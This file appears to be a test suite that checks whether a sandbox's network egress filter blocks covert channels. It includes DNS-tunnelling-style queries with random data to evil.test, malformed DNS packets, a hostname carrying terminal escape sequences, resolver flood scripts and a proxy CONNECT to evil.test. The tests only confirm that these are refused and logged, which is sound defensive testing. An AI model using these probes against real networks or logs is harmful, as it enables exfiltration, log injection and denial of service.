import { randomBytes } from 'node:crypto'
import { encode } from 'dns-packet'
import { describe, expect, test } from 'vitest'
import { drivers } from '../conformance/drivers.ts'
import { python, run } from '../conformance/suite.ts'
import { openEgressWorld, readDatagrams, reasonIn } from '../support/egress.ts'
import { inSandbox } from './support/boxes.ts'

const hosts = ['allowed.test', 'a.wild.test']
const EPERM = 1
const EAFNOSUPPORT = 97
const ECONNREFUSED = 111

describe.each(Object.entries(drivers))('%s: other channels', { timeout: 60_000 }, (_, driver) => {
  const world = openEgressWorld(driver, { hosts })
  const box = inSandbox(world, { allowOut: ['allowed.test', '*.wild.test'] })

  const query = (name: string, type: 'A' | 'AAAA' | 'TXT' = 'A') =>
    encode({ type: 'query', id: 7, flags: 0x100, questions: [{ name, type }] })
  const framed = (packet: Buffer) => Buffer.concat([Buffer.from([packet.length >> 8, packet.length & 255]), packet])
  const datagrams = async (packets: Buffer[], wanted = packets.length) => {
    const socket = await box().dial('127.0.0.1', 53, 'udp')
    for (const packet of packets) socket.write(framed(packet))
    return readDatagrams(socket, wanted)
  }

  test('programs inside reach an allowed name by the resolver they are given', async () => {
    const source = `import json, socket, ssl, urllib.request
context = ssl.create_default_context(cadata=open("/tmp/ca.crt").read())
print(json.dumps([urllib.request.urlopen(u, context=context if u[4] == "s" else None).read().decode() for u in ("https://allowed.test/", "http://a.wild.test/")]))`
    const certificate = Buffer.from(box().inlay.certificate)
    await box().sandbox.put('/tmp/ca.crt', certificate, { size: certificate.length })
    expect(await python(box().sandbox, source)).toEqual(['hello from allowed.test', 'hello from a.wild.test'])
  })

  describe('names', () => {
    test('are the same at every resolver, over UDP and TCP', async () => {
      const address = await box().address('allowed.test')
      for (const resolver of ['8.8.8.8', '10.0.0.53', '169.254.169.253', '192.168.1.1']) {
        const { answers } = await box().ask('allowed.test', 'A', resolver)
        expect(answers).toMatchObject([{ type: 'A', data: address }])
        expect((await box().ask('evil.test', 'A', resolver)).answers).toEqual([])
      }
      const socket = await box().dial('9.9.9.9', 53)
      socket.write(framed(query('allowed.test')))
      socket.write(framed(query('evil.test')))
      expect(await readDatagrams(socket, 2)).toHaveLength(2)
      await box().recorded({ decision: 'refused', reason: 'name-not-allowed', host: 'evil.test', port: 53 })
      expect(world.nameServer.asked).toEqual([])
    })

    test('say nothing to anybody by being asked for', async () => {
      const told = Array.from({ length: 50 }, () => randomBytes(30).toString('hex'))
      const answers = await Promise.all(told.map((label) => box().ask(`${label}.wild.test`)))
      expect(answers.every((packet) => packet.answers?.length === 1)).toBe(true)
      for (const label of told.slice(0, 10)) await box().ask(`${label}.evil.test`, 'TXT')
      expect(world.nameServer.asked).toEqual([])
      expect(world.upstream.requests).toEqual([])
    })

    test('lead to an address of IPv4, and to nothing else', async () => {
      for (const type of ['AAAA', 'TXT', 'MX', 'NS', 'SOA', 'SRV', 'CNAME', 'NULL', 'HTTPS', 'ANY'] as never[]) {
        expect((await box().ask('allowed.test', type)).answers).toEqual([])
      }
      expect(world.nameServer.asked).toEqual([])
    })

    const header = (questions: number, flags = 0x0100) => {
      const bytes = Buffer.alloc(12)
      bytes.writeUInt16BE(9, 0)
      bytes.writeUInt16BE(flags, 2)
      bytes.writeUInt16BE(questions, 4)
      return bytes
    }
    const type = Buffer.from([0, 1, 0, 1])
    const malformed: Record<string, Buffer> = {
      'nothing at all': Buffer.alloc(0),
      'half a header': Buffer.alloc(5),
      'a name that points at itself': Buffer.concat([header(1), Buffer.from([0xc0, 12]), type]),
      'names that point at each other': Buffer.concat([header(1), Buffer.from([0xc0, 14, 0xc0, 12]), type]),
      'a name that points ahead': Buffer.concat([header(1), Buffer.from([0xc0, 200]), type]),
      'a label that is cut off': Buffer.concat([header(1), Buffer.from([60, 97, 98])]),
      'a label of a reserved kind': Buffer.concat([header(1), Buffer.from([0x80, 97, 0]), type]),
      'a name without an end': Buffer.concat([header(1), Buffer.alloc(1400, Buffer.from([1, 97]))]),
      'more questions than there are': Buffer.concat([header(65535), query('allowed.test').subarray(12)]),
      'an answer': Buffer.concat([header(1, 0x8180), query('evil.test').subarray(12)]),
      'an update': Buffer.concat([header(1, 0x2800), query('allowed.test').subarray(12)]),
      'random bytes': randomBytes(500),
      'sixty thousand bytes': Buffer.alloc(60_000, 'a'),
    }
    test.each(Object.entries(malformed))('%s: malformed questions hurt nobody', async (_, packet) => {
      const { pid } = world.outlets
      // What is asked after it is answered; it itself by nothing that could be an address.
      const answers = await datagrams(
        [packet, query('allowed.test')].filter(({ length }) => length > 0),
        1,
      )
      expect(answers.some((answer) => answer.readUInt16BE(0) === 7 && answer.readUInt16BE(6) === 1)).toBe(true)
      const socket = await box().dial('127.0.0.1', 53)
      socket.write(framed(packet))
      socket.end()
      expect((await readDatagrams(socket, 2)).filter((answer) => answer.readUInt16BE(6) > 0)).toEqual([])
      expect((await box().ask('allowed.test')).answers).toHaveLength(1)
      expect(world.outlets.pid).toBe(pid)
    })

    test('are recorded so that no terminal obeys them', async () => {
      const before = box().records.length
      await box().ask('\x1b]0;owned\x07\x1b[2J.evil.test\r\n')
      await expect.poll(() => box().records.slice(before)).not.toEqual([])
      const text = box()
        .records.slice(before)
        .map(({ host = '' }) => host)
        .join('')
      expect([...text].filter((character) => character < ' ' || character === '\x7f')).toEqual([])
      expect(text).toContain('evil.test')
    })

    test('floods of them, over UDP and TCP, leave others answered', async () => {
      const other = await world.start({ allowOut: ['allowed.test'] })
      const source = `import socket, threading, time
packet = bytes.fromhex("${query('allowed.test').toString('hex')}")
def udp():
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
  end = time.time() + 2
  while time.time() < end: s.sendto(packet, ("127.0.0.1", 53))
def tcp():
  open = []
  end = time.time() + 2
  while time.time() < end:
    try:
      s = socket.create_connection(("127.0.0.1", 53), timeout=1); s.sendall(len(packet).to_bytes(2, "big") + packet); open.append(s)
    except OSError: time.sleep(0.01)
threads = [threading.Thread(target=t) for t in (udp, udp, tcp)]
for t in threads: t.start()
for t in threads: t.join()`
      const flood = run(box().sandbox, ['python3', '-c', source])
      const began = performance.now()
      for (let n = 0; n < 10; n++) {
        expect(await other.request({ host: 'allowed.test' })).toMatchObject({ status: 200 })
        expect((await other.ask('allowed.test')).answers).toHaveLength(1)
      }
      expect(performance.now() - began).toBeLessThan(10_000)
      await flood
      await expect.poll(async () => (await box().ask('allowed.test')).answers, { timeout: 15_000 }).toHaveLength(1)
    })

    test('under a wildcard are bounded', async () => {
      const greedy = await world.start({ allowOut: ['*.wild.test', 'allowed.test'] })
      const source = `import json, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("127.0.0.1", 53))
got = 0
for n in range(4300):
  label = b"n%d" % n
  s.send(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label + b"\\4wild\\4test\\0\\0\\1\\0\\1")
  try: got += s.recv(600)[7]
  except OSError: pass
print(json.dumps(got))`
      const got = await python<number>(greedy.sandbox, source)
      expect(got).toBeGreaterThan(1000)
      expect(got).toBeLessThanOrEqual(4096)
      await greedy.recorded({ decision: 'refused', reason: 'too-many-names', port: 53 })
      // Those given exactly are not crowded out.
      expect(await greedy.request({ host: 'allowed.test' })).toMatchObject({ status: 200 })
    })
  })

  test('QUIC, DoT, SSH, mail and all other ports lead nowhere', async () => {
    const address = await box().address('allowed.test')
    for (const target of [address, '8.8.8.8', '2606:4700:4700::1111', '127.0.0.1']) {
      for (const port of [22, 25, 81, 444, 853, 3128, 5353, 8080, 8443, 65535]) {
        await expect(box().dial(target, port)).rejects.toThrow(`errno ${ECONNREFUSED}`)
      }
    }
    const source = `import json, socket
def udp(host, port):
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((host, port))
  try: s.send(b"x" * 1200); s.recv(1)
  except OSError as e: return e.errno or "timeout"
  return 0
print(json.dumps([udp("${address}", p) for p in (443, 80, 123, 853, 5353, 51820)]))`
    expect(await python(box().sandbox, source)).toEqual([
      ECONNREFUSED,
      ECONNREFUSED,
      ECONNREFUSED,
      ECONNREFUSED,
      ECONNREFUSED,
      ECONNREFUSED,
    ])
  })

  test('DNS over HTTPS is a host like any other', async () => {
    for (const address of ['8.8.8.8', '1.1.1.1', '9.9.9.9']) {
      await expect(box().tls('dns.google', { address })).rejects.toThrow()
      await box().recorded({ decision: 'refused', reason: 'address-not-pinned', port: 443, host: address })
    }
    expect((await box().ask('dns.google')).answers).toEqual([])
  })

  test('ICMP and raw packets are not to be had', async () => {
    const source = `import json, socket
def raw(*kind):
  try: socket.socket(*kind).close()
  except OSError as e: return e.errno
  return 0
def ping():
  try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
  except OSError as e: return e.errno
  s.settimeout(1)
  try: s.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1data", ("8.8.8.8", 0)); return len(s.recv(100)) and "echo"
  except OSError as e: return e.errno or "timeout"
print(json.dumps([raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
  raw(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6), raw(socket.AF_PACKET, socket.SOCK_RAW, 3), raw(socket.AF_VSOCK, socket.SOCK_STREAM), ping()]))`
    const [icmp, ip, icmp6, packet, vsock, ping] = await python<(number | string)[]>(box().sandbox, source)
    expect([icmp, ip, icmp6]).toEqual([EPERM, EPERM, EPERM])
    expect([EPERM, EAFNOSUPPORT]).toContain(packet)
    expect(vsock).not.toBe(0)
    // Whatever it may ask for, no echo has come from outside.
    expect(ping).not.toBe('echo')
  })

  test('nothing is gained by proxies set, or not set', async () => {
    const source = `import json, os, socket, urllib.request
def get(url, proxy):
  opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy} if proxy else {}))
  try: return opener.open(url, timeout=5).status
  except urllib.error.HTTPError as e: return e.code
  except OSError as e: return "refused"
print(json.dumps([get("http://allowed.test/", None), get("http://evil.test/", None), get("http://evil.test/", "http://allowed.test:80"), get("https://evil.test/", "http://allowed.test:80"), get("http://evil.test/", "http://10.0.0.1:3128")]))`
    expect(await python(box().sandbox, source)).toEqual([200, 'refused', 421, 'refused', 'refused'])
    const connect = 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n'
    const { replies } = await box().send('allowed.test', connect, { port: 80, answers: 1 })
    expect(replies.map(reasonIn)).toEqual(['method-refused'])
    await box().recorded({ decision: 'refused', reason: 'method-refused', port: 80 })
    expect(world.upstream.requests.map(({ headers }) => headers.host)).toEqual(['allowed.test'])
  })
})
